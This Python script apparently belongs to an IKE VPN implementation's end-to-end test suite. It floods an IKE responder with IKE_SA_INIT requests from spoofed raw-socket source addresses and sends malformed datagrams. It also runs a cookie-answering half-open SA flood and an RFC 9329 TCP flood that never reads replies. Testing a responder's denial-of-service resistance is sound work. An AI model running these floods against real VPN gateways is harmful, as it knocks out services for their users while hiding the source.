#!/usr/bin/env python3
"""Flood an IKE responder with IKE_SA_INIT requests from many spoofed
source addresses, and with hostile bytes (truncated, bad lengths, junk),
over a raw socket (root, in the attacker's network namespace).

    ike_flood.py DST_IP PEER_IP SRC_PREFIX COUNT
    ike_flood.py --cookies DST_IP COUNT [INTERVAL_S]
    ike_flood.py --tcp DST_IP PORT SRC_PREFIX ADDRESSES PER_ADDRESS SECONDS

With --tcp (RFC 9329, issue 29 item 2), the attacker opens PER_ADDRESS
connections from each of ADDRESSES addresses (SRC_PREFIX.1.1 and on, which
it must hold), with receive buffers as small as the kernel allows. On each
it sends "IKETCP" and an IKE_SA_INIT, returns the COOKIE if asked, until the
responder keeps a half-open SA for it; then, for SECONDS, it writes that
same request over and over on every connection and never reads again.
A responder that answers every copy and queues what is not read holds
MiBs per connection. It prints "flooding" when the flood starts and a
summary at the end.

With --cookies, the attacker is one real address (its own, over a plain
UDP socket): it sends COUNT IKE_SA_INIT requests, INTERVAL_S apart
(default 0.002), and answers every COOKIE request (RFC 7296 §2.6) with the
same request, the cookie first, as a real initiator does; it never goes on
to IKE_AUTH. It prints "sent N" every 100 requests and a summary: how
many got an IKE_SA_INIT response (a half-open SA at the responder), a
COOKIE, or nothing.

Each request is valid as far as the responder can tell before it keeps
state: a new SPIi, one IKE proposal AES-GCM-16-128 / PRF-HMAC-SHA2-256 /
ECP-256 (what tests/e2e/ike.sh negotiates by default), a KE payload whose
public value is the P-256 generator (a valid point: RFC 6989's checks
pass), a 32-byte nonce. Every other request comes from PEER_IP (the
configured peer, from a new port each time: the responder keeps state for
those until its cookie threshold), the rest from SRC_PREFIX.3 ..
SRC_PREFIX.254 (no connection matches: refused without state). Prints
what it sent.
"""
import os
import random
import socket
import struct
import sys
import time

P256_G = bytes.fromhex(
    "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
    "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5"
)


def payload(next_type, body, critical=False):
    return struct.pack("!BBH", next_type, 0x80 if critical else 0, 4 + len(body)) + body


def transform(last, ttype, tid, keylen=None):
    attrs = struct.pack("!HH", 0x800E, keylen) if keylen else b""
    return struct.pack("!BBHBBH", 0 if last else 3, 0, 8 + len(attrs), ttype, 0, tid) + attrs


def ike_sa_init(spi_i):
    ts = (transform(False, 1, 20, 128) + transform(False, 2, 5) + transform(True, 4, 19))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(ts), 1, 1, 0, 3) + ts
    sa = payload(34, proposal)  # next: KE
    ke = payload(40, struct.pack("!HH", 19, 0) + P256_G)  # next: Nonce
    nonce = payload(0, os.urandom(32))
    body = sa + ke + nonce
    header = struct.pack("!QQBBBBII", spi_i, 0, 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return header + body


def with_cookie(msg, cookie):
    """The same IKE_SA_INIT request with N(COOKIE) as its first payload."""
    notify = struct.pack("!BBH", 0, 0, 16390) + cookie  # protocol 0, SPI size 0, COOKIE
    body = payload(msg[16], notify) + msg[28:]
    return msg[:16] + bytes([41]) + msg[17:24] + struct.pack("!I", 28 + len(body)) + body


def answer_kind(data):
    """(SPIi, kind) of an IKE_SA_INIT response: kind is ("cookie", COOKIE),
    "state" (SA, KE, Nr: the responder keeps a half-open SA) or "other"."""
    if len(data) < 28 or data[18] != 34 or not data[19] & 0x20:
        return None, "other"
    spi_i = struct.unpack("!Q", data[:8])[0]
    if data[16] == 33:
        return spi_i, "state"
    # HDR, N(COOKIE): the notify's length at 30, its type at 34, data from 36.
    if data[16] == 41 and len(data) >= 36 and struct.unpack("!H", data[34:36])[0] == 16390:
        length = struct.unpack("!H", data[30:32])[0]
        return spi_i, ("cookie", data[36:28 + length])
    return spi_i, "other"


def cookie_flood(dst, count, interval):
    """COUNT requests from this host's own address, every COOKIE answered."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((dst, 500))
    s.setblocking(False)
    pending, seen = {}, {"state": 0, "cookie": 0, "other": 0}
    answered = 0

    def drain():
        nonlocal answered
        while True:
            try:
                data = s.recv(65535)
            except BlockingIOError:
                return
            spi_i, kind = answer_kind(data)
            if isinstance(kind, tuple):
                seen["cookie"] += 1
                msg = pending.get(spi_i)
                if msg is not None and msg[16] != 41:  # answer each request's first cookie
                    pending[spi_i] = with_cookie(msg, kind[1])
                    s.send(pending[spi_i])
                    answered += 1
            else:
                seen[kind] += 1

    for i in range(count):
        spi_i = random.getrandbits(64) | 1
        pending[spi_i] = ike_sa_init(spi_i)
        s.send(pending[spi_i])
        drain()
        time.sleep(interval)
        drain()
        if (i + 1) % 100 == 0:
            print("sent %d" % (i + 1), flush=True)
    end = time.time() + 1.0
    while time.time() < end:
        drain()
        time.sleep(0.01)
    print("flood done: sent %d IKE_SA_INIT from %s, %d again with the cookie; answers: %d with state, %d COOKIE, %d other, %d none"
          % (count, s.getsockname()[0], answered, seen["state"], seen["cookie"], seen["other"],
             count + answered - seen["state"] - seen["cookie"] - seen["other"]), flush=True)


def framed(msg):
    """An IKE message in an RFC 9329 stream: Length, the non-ESP marker."""
    return struct.pack("!H", 2 + 4 + len(msg)) + b"\0\0\0\0" + msg


def read_frame(s):
    """The next IKE message of stream `s` (blocking), or None."""
    def exactly(n):
        b = b""
        while len(b) < n:
            chunk = s.recv(n - len(b))
            if not chunk:
                return None
            b += chunk
        return b
    head = exactly(2)
    if head is None:
        return None
    body = exactly(struct.unpack("!H", head)[0] - 2)
    return None if body is None else body[4:]


def tcp_half_open(dst, port, src):
    """A connection from `src` on which the responder keeps a half-open
    SA: (socket, the framed request it answered), or None."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)  # the least the kernel gives
    s.bind((src, 0))
    s.settimeout(5)
    try:
        s.connect((dst, port))
        msg = ike_sa_init(random.getrandbits(64) | 1)
        s.sendall(b"IKETCP" + framed(msg))
        for _ in range(2):
            _, kind = answer_kind(read_frame(s) or b"")
            if kind == "state":
                s.setblocking(False)
                return s, framed(msg)
            if not isinstance(kind, tuple):
                break
            msg = with_cookie(msg, kind[1])
            s.sendall(framed(msg))
    except OSError:
        pass
    s.close()
    return None


def tcp_flood(dst, port, prefix, addresses, per_address, seconds):
    conns = []
    for a in range(addresses):
        src = "%s.%d.%d" % (prefix, 1 + a // 250, 1 + a % 250)
        for _ in range(per_address):
            c = tcp_half_open(dst, port, src)
            if c:
                conns.append(c)
    print("flooding: %d connections of %d hold a half-open SA; writing their IKE_SA_INIT again and again for %d s, reading nothing"
          % (len(conns), addresses * per_address, seconds), flush=True)
    sent = blocked = closed = 0
    end = time.time() + seconds
    while time.time() < end and conns:
        for c in list(conns):
            s, frame = c
            try:
                sent += s.send(frame * 32) // len(frame)
            except BlockingIOError:
                blocked += 1
            except OSError:
                closed += 1
                conns.remove(c)
                s.close()
        time.sleep(0.01)
    print("flood done: %d IKE_SA_INIT copies written, %d writes blocked (the responder stopped reading), %d connections closed by it, %d left"
          % (sent, blocked, closed, len(conns)), flush=True)
    for s, _ in conns:
        s.close()


def ipv4_udp(src, dst, sport, dport, data):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data  # no checksum (IPv4)
    total = 20 + len(udp)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.randrange(65536), 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    csum = 0
    for i in range(0, 20, 2):
        csum += (ip[i] << 8) + ip[i + 1]
    while csum >> 16:
        csum = (csum & 0xFFFF) + (csum >> 16)
    ip = ip[:10] + struct.pack("!H", ~csum & 0xFFFF) + ip[12:]
    return ip + udp


def main():
    if sys.argv[1] == "--tcp":
        dst, port, prefix = sys.argv[2], int(sys.argv[3]), sys.argv[4]
        tcp_flood(dst, port, prefix, int(sys.argv[5]), int(sys.argv[6]), float(sys.argv[7]))
        return
    if sys.argv[1] == "--cookies":
        interval = float(sys.argv[4]) if len(sys.argv) > 4 else 0.002
        cookie_flood(sys.argv[2], int(sys.argv[3]), interval)
        return
    dst, peer, prefix, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = hostile = 0
    for i in range(count):
        src = peer if i % 2 == 0 else "%s.%d" % (prefix, 3 + i % 252)
        sport = 1024 + i
        msg = ike_sa_init(random.getrandbits(64) | 1)
        s.sendto(ipv4_udp(src, dst, sport, 500, msg), (dst, 0))
        sent += 1
        if i % 10 == 0:
            # Hostile: truncated, a length that lies, an unknown critical
            # payload, random bytes.
            bad = [
                msg[: random.randrange(1, len(msg))],
                msg[:24] + struct.pack("!I", 0xFFFF) + msg[28:],
                msg[:16] + bytes([99]) + msg[17:] + payload(0, b"x", critical=True),
                os.urandom(random.randrange(1, 300)),
            ]
            for b in bad:
                s.sendto(ipv4_udp(src, dst, sport, 500, b), (dst, 0))
                hostile += 1
            # A few hundred datagrams a second per batch: a flood, but one
            # whose loss in the receive buffer does not decide the test.
            time.sleep(0.002)
    print("    sent %d IKE_SA_INIT requests (half from %s, half from %d other addresses) and %d hostile datagrams"
          % (sent, peer, min(count // 2, 252), hostile))


if __name__ == "__main__":
    main()
